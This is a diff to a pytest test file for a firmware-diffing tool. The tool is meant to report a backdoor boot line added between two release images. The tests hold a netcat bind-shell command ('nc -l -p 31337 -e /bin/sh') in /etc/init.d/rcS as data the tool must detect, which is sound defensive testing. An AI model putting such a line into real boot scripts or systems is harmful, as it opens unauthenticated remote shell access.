@@ -35,6 +35,19 @@ def releases(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
     return images[0], images[1]
 
 
+def test_diff_output_can_be_grepped(releases: tuple[Path, Path]):
+    """Without --json the diff is the verb's output on standard output, and a pipe gets whole
+    lines: every changed path and the added boot line on one line each, nothing folded."""
+    old, new = releases
+    proc = firmproof("diff", old, new)
+    assert proc.returncode == 0, proc.stderr
+    lines = proc.stdout.splitlines()
+    appeared = [line for line in lines if "FP-SVC-006" in line]
+    assert len(appeared) == 1 and "/etc/init.d/rcS:" in appeared[0] and "appeared" in appeared[0]
+    assert [line for line in lines if "/etc/init.d/rcS: nc -l -p 31337 -e /bin/sh" in line]
+    assert not [line for line in lines if line.strip().startswith(("-p 31337", "/bin/sh"))]
+
+
 def test_diff_of_two_images_names_the_backdoor_and_nothing_else(releases: tuple[Path, Path],
                                                                  tmp_path: Path):
     old, new = releases
@@ -55,7 +68,7 @@ def test_diff_of_two_images_names_the_backdoor_and_nothing_else(releases: tuple[
     assert list(changes["listening"]["added"]) == ["nc: nc -l -p 31337 -e /bin/sh"]
     assert set(changes) == {"files", "boot", "listening"}
     assert diff["lines"] == {"/etc/init.d/rcS": {"removed": [], "added": [NC_LINE]}}
-    assert "appeared" in proc.stderr and "FP-SVC-006" in proc.stderr
+    assert "appeared" in proc.stderr and "FP-SVC-006" in proc.stderr     # stdout holds the JSON
     html = page.read_text()
     assert "FP-SVC-006" in html and NC_LINE.replace("&", "&amp;") in html
     assert "http://" not in html.replace("http://www.w3.org/2000/svg", "") and "<script src" not in html
